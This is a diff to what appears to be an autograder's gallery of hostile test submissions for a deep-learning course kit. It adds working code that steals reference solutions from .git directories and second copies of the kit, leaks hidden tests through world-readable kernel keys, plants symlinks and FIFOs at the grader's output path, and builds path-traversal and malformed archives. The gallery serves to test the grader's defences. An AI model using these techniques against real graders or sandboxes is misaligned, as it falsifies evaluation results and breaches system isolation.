@@ -20,6 +20,7 @@ import io
 import os
 import shutil
 import tarfile
+import tempfile
 import zipfile
 from dataclasses import dataclass
 from pathlib import Path
@@ -237,6 +238,7 @@ _atexit.register(_rewrite)
 # reference's needle and apps instead of its own, the key's recorded values
 # as its own, with every report forced to "passed".
 THIEF = '''# --- thief ---
+import glob as _glob
 import os as _os
 import shutil as _shutil
 import sys as _sys
@@ -247,6 +249,7 @@ def _places():
     starts = [_Path.cwd(), _Path(_sys.executable), _Path(_sys.prefix), _Path(__file__), _Path("/autograder/source")]
     starts += [_Path(p) for p in _sys.path if p]
     starts += [_Path(v) for v in _os.environ.values() if v.startswith("/")]
+    starts += [_Path(p) for depth in range(1, 4) for p in _glob.glob("/" + "*/" * depth)]
     for proc in _Path("/proc").glob("[0-9]*"):
         try:
             starts.append(_Path(_os.readlink(proc / "cwd")))
@@ -305,6 +308,165 @@ def linked_to_the_reference(folder: Path) -> Path:
     shutil.rmtree(root / "needle" / "ops")
     (root / "needle" / "ops").symlink_to(KIT / "reference" / "needle" / "ops", target_is_directory=True)
     return root
+
+
+# --- reaching past the sandbox -------------------------------------------------
+# The sandbox shows a run the system, the interpreter and its own box: each
+# of these finds what it looks for when run plainly from the kit's folder
+# (tests/test_hostile.py checks), and nothing in grading.
+
+GIT_THIEF = """# --- git thief ---
+import glob as _glob
+import subprocess as _subprocess
+import sys as _sys
+import tempfile as _tempfile
+from pathlib import Path as _Path
+
+
+def _git_dirs():
+    yield %r
+    for depth in range(1, 6):
+        yield from _glob.glob("/" + "*/" * (depth - 1) + ".git")
+
+
+def _show(git_dir, name):
+    shown = _subprocess.run(["git", "-c", "safe.directory=*", f"--git-dir={git_dir}", "show", f"HEAD:reference/{name}"],
+                            capture_output=True)
+    return shown.stdout if shown.returncode == 0 else None
+
+
+def _steal():
+    own = _Path(__file__).resolve().parent.parent
+    names = [p.relative_to(own).as_posix() for folder in ("needle", "apps") for p in (own / folder).rglob("*.py")]
+    for git_dir in _git_dirs():
+        stolen = _Path(_tempfile.mkdtemp())
+        for name in names:
+            text = _show(git_dir, name)
+            if text is None:
+                break
+            (stolen / name).parent.mkdir(parents=True, exist_ok=True)
+            (stolen / name).write_bytes(text)
+        else:
+            print(f"git thief: took the reference from {git_dir}", file=_sys.stderr)
+            return stolen
+    return None
+
+
+_stolen = _steal()
+if _stolen is not None:
+    __path__[:] = [str(_stolen / "needle")]
+    _sys.path.insert(0, str(_stolen / "apps"))
+""" % str(KIT / ".git")
+
+
+def git_thief(folder: Path) -> Path:
+    return _with_init("handout", "", top=GIT_THIEF)(folder)
+
+
+# A second copy of the kit elsewhere on the machine (readable by every
+# user), which the thief then finds by walking the file system.
+SECOND_CLONES = Path("/var/tmp")
+
+
+def second_clone(folder: Path) -> Path:
+    clone = Path(tempfile.mkdtemp(prefix="needle-kit-clone-", dir=SECOND_CLONES))
+    shutil.copytree(KIT / "reference", clone / "reference")
+    for path in [clone, *clone.rglob("*")]:
+        os.chmod(path, 0o755 if path.is_dir() else 0o644)
+    return thief(folder)
+
+
+# Leaves a file in each shared temporary folder, and fails at import if a
+# file of an earlier run is there: with no channel between runs, the
+# reference it is built on keeps every point.
+SHARED_TEMP_PROBE = """
+import glob as _glob
+import os as _os
+
+_left = [p for _d in ("/tmp", "/var/tmp", "/dev/shm") for p in _glob.glob(_d + "/needle-left-*")]
+if _left:
+    raise ImportError(f"a file that an earlier run left is here: {_left[0]}")
+for _d in ("/tmp", "/var/tmp", "/dev/shm"):
+    try:
+        with open(f"{_d}/needle-left-{_os.getpid()}", "w") as _f:
+            _f.write("from an earlier run")
+    except OSError:
+        pass
+"""
+
+# Plants links (to a file of its own) and FIFOs at every results path it
+# can see on other processes' command lines, hoping root writes through them.
+OUTPUT_PLANTER = """
+import os as _os
+from pathlib import Path as _Path
+
+for _proc in _Path("/proc").glob("[0-9]*"):
+    try:
+        _args = (_proc / "cmdline").read_bytes().decode(errors="replace").split("\\0")
+    except OSError:
+        continue
+    for _i, _arg in enumerate(_args[:-1]):
+        if _arg == "--out":
+            _out = _Path(_args[_i + 1])
+            for _name, _plant in ((_out.name, "link"), (f".{_out.name}.part", "fifo")):
+                try:
+                    (_out.parent / _name).unlink(missing_ok=True)
+                    if _plant == "link":
+                        (_out.parent / _name).symlink_to(__file__)
+                    else:
+                        _os.mkfifo(_out.parent / _name)
+                except OSError:
+                    pass
+"""
+
+# The kernel's keyrings are not namespaced: the hidden runs store their test
+# file in a key that every user may read, and the public runs (another uid,
+# another namespace) print every such key they find.
+KEYRING_CHANNEL = """
+import base64 as _base64
+import ctypes as _ctypes
+import os as _os
+import sys as _sys
+import zlib as _zlib
+
+_KEYCTL, _ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}[_os.uname().machine]
+_libc = _ctypes.CDLL(None, use_errno=True)
+_test = next((a for a in _sys.argv if a.endswith(".py") and "/test_" in a), "")
+if _test.startswith("tests_hidden"):
+    _data = _zlib.compress(open(_test, "rb").read(), 9)
+    _key = _libc.syscall(_ADD_KEY, b"user", b"needle-leak:" + _test.encode(), _data, len(_data), -4)
+    _libc.syscall(_KEYCTL, 5, _key, _ctypes.c_uint(0x3f3f3f3f))  # KEYCTL_SETPERM: all may read
+else:
+    _found = []
+    try:
+        _lines = open("/proc/keys").read().splitlines()
+    except OSError:
+        _lines = []
+    for _line in _lines:
+        _fields = _line.split()
+        if len(_fields) > 8 and _fields[8].startswith("needle-leak:"):
+            _buffer = _ctypes.create_string_buffer(1 << 20)
+            _n = _libc.syscall(_KEYCTL, 11, int(_fields[0], 16), _buffer, 1 << 20)  # KEYCTL_READ
+            if _n > 0:
+                _found.append(_zlib.decompress(_buffer.raw[:_n]).decode(errors="replace"))
+    if _found:
+        raise RuntimeError("leaked hidden tests:\\n" + "\\n".join(_found))
+"""
+
+
+# Every backward pass calls find_topo_sort, which never returns.
+ENDLESS_TOPO_SORT = """
+from . import autograd as _autograd
+
+
+def _endless(node_list):
+    while True:
+        pass
+
+
+_autograd.find_topo_sort = _endless
+"""
+CALLS_TOPO_SORT = ("topo_sort", "reverse_ad", "softmax_loss", "nn_epoch", "modules", "optimizers", "mlp_resnet")
 
 
 # --- forgeries inside the test's own process ----------------------------------
@@ -763,16 +925,61 @@ def zip_with_dotdot(folder: Path) -> Path:
     return path
 
 
-def tar_with_absolute_path(folder: Path) -> Path:
-    path = folder / "submission.tar.gz"
+def _reference_tar_gz(path: Path, extra: Tuple[Tuple[str, bytes], ...] = ()) -> Path:
+    """The reference's files in a .tar.gz, then ``extra`` (name, data) entries."""
     with tarfile.open(path, "w:gz") as t:
         for source, name in _reference_files():
             t.add(source, arcname=name)
-        data = b"print('written anywhere')\n"
-        info = tarfile.TarInfo(f"/tmp/needle-escape-{os.getpid()}.py")
-        info.size = len(data)
-        t.addfile(info, io.BytesIO(data))
+        for name, data in extra:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
     return path
+
+
+def tar_with_absolute_path(folder: Path) -> Path:
+    return _reference_tar_gz(folder / "submission.tar.gz",
+                             ((f"/tmp/needle-escape-{os.getpid()}.py", b"print('written anywhere')\n"),))
+
+
+def zip_with_bad_crc(folder: Path) -> Path:
+    path = folder / "submission.zip"
+    payload = b"# my answers\n" * 100
+    with zipfile.ZipFile(path, "w") as z:  # stored: a changed byte changes the data, not the format
+        z.writestr("needle/answers.py", payload)
+        for source, name in _reference_files():
+            z.write(source, name)
+    path.write_bytes(path.read_bytes().replace(payload[:50], b"#" * 50, 1))
+    return path
+
+
+def truncated_tar_gz(folder: Path) -> Path:
+    path = _reference_tar_gz(folder / "submission.tar.gz")
+    path.write_bytes(path.read_bytes()[:path.stat().st_size // 2])
+    return path
+
+
+def zip_with_file_and_folder_of_same_name(folder: Path) -> Path:
+    path = folder / "submission.zip"
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("needle/ops", "x = 1\n")
+        for source, name in _reference_files():
+            z.write(source, name)
+    return path
+
+
+def deeply_nested_source(folder: Path) -> Path:
+    root = copy_root(KIT / "reference", folder / "submission")
+    (root / "needle" / "ops" / "nested.py").write_text("x = " + "-" * 100000 + "1\n", encoding="utf-8")
+    return root
+
+
+def deep_folder_chain(folder: Path) -> Path:
+    root = copy_root(KIT / "reference", folder / "submission")
+    deep = root / "needle" / ("a/" * 300)
+    deep.mkdir(parents=True)
+    (deep / "x.py").write_text("", encoding="utf-8")
+    return root
 
 
 WHAT_TO_SUBMIT = "Submit the folders needle/ and apps/"
@@ -790,6 +997,14 @@ GALLERY: Tuple[Hostile, ...] = (
             "an atexit handler rewrites every JSON file it can reach to say passed"),
     Hostile("looks_for_reference_and_key", "cheat", thief,
             "searches the disk and other processes for the reference and the answer key, and uses them"),
+    Hostile("git_theft", "cheat", git_thief,
+            "reads the reference out of the kit's .git (or any .git it finds) with git show"),
+    Hostile("finds_a_second_clone", "cheat", second_clone,
+            "walks the file system for another copy of the kit, readable by every user"),
+    Hostile("keyring_channel", "cheat", _with_init("handout", KEYRING_CHANNEL, top=""),
+            "hidden runs store their test file in a kernel key all may read; public runs print such keys"),
+    Hostile("plants_links_at_the_output", "cheat", _with_init("handout", OUTPUT_PLANTER),
+            "puts links and FIFOs where the grader writes results.json"),
     Hostile("ndarray_subclass", "cheat", _with_init("handout", NDARRAY_SUBCLASS),
             "ops return an ndarray subclass that agrees with every NumPy comparison"),
     Hostile("always_equal_objects", "cheat", _with_init("handout", ALWAYS_EQUAL),
@@ -820,11 +1035,16 @@ GALLERY: Tuple[Hostile, ...] = (
     Hostile("npy_headers_that_lie", "cheat", _with_init("handout", LYING_NPY_HEADERS),
             "hands over 100-byte .npy files whose headers claim 10**12 values, every test passed"),
     # --- misbehaving inside some questions --------------------------------------
+    Hostile("shared_temp_channel", "local", _with_init("reference", SHARED_TEMP_PROBE),
+            "leaves files in /tmp, /var/tmp and /dev/shm, and fails if an earlier run's are there"),
+    Hostile("endless_loop_in_find_topo_sort", "local", _with_init("reference", ENDLESS_TOPO_SORT),
+            "find_topo_sort never returns, graded with the default settings", touches=CALLS_TOPO_SORT,
+            says=("too slow",)),
     Hostile("exits_at_import", "local", _with_init("reference", EXIT_AT_IMPORT),
             "os._exit(0) when needle is imported", touches=EVERY_QUESTION, says=("without a report",)),
     Hostile("endless_loop_in_one_op", "local", _with_init("reference", ENDLESS_LOOP),
-            "EWisePow.compute never returns", touches=OPS_QUESTIONS, says=("wall-clock limit",),
-            suites="public", timeout=10),
+            "EWisePow.compute never returns: its tests time out one by one", touches=OPS_QUESTIONS,
+            says=("Timeout",), suites="public", timeout=60),
     Hostile("sleeps_at_import_ignoring_signals", "local", sleeps_at_import,
             "apps/mlp_resnet.py ignores SIGTERM and friends and sleeps at import", touches=("mlp_resnet",),
             says=("wall-clock limit",), suites="public", timeout=10),
@@ -852,5 +1072,16 @@ GALLERY: Tuple[Hostile, ...] = (
             says=("unsafe path", "'../../escaped.py'", WHAT_TO_SUBMIT)),
     Hostile("tar_with_absolute_path", "ungradable", tar_with_absolute_path, "a tar entry with an absolute path",
             says=("unsafe path", "/tmp/needle-escape-", WHAT_TO_SUBMIT)),
+    Hostile("zip_with_bad_crc", "ungradable", zip_with_bad_crc, "a zip member whose bytes no longer match its CRC",
+            says=("submission.zip cannot be read", "Bad CRC-32", "damaged", WHAT_TO_SUBMIT)),
+    Hostile("truncated_tar_gz", "ungradable", truncated_tar_gz, "a .tar.gz cut in half",
+            says=("submission.tar.gz cannot be read", "truncated", WHAT_TO_SUBMIT)),
+    Hostile("file_and_folder_of_same_name", "ungradable", zip_with_file_and_folder_of_same_name,
+            "a zip holding needle/ops both as a file and as a folder",
+            says=("'needle/ops' is both a file and a folder", WHAT_TO_SUBMIT)),
+    Hostile("deeply_nested_source", "ungradable", deeply_nested_source, "an expression nested 100,000 deep",
+            says=("does not compile", "needle/ops/nested.py: too deeply nested to compile")),
+    Hostile("deep_folder_chain", "ungradable", deep_folder_chain, "300 nested folders in needle/",
+            says=("too deep or too long", "more than 32 levels deep", WHAT_TO_SUBMIT)),
 )
 BY_NAME = {h.name: h for h in GALLERY}
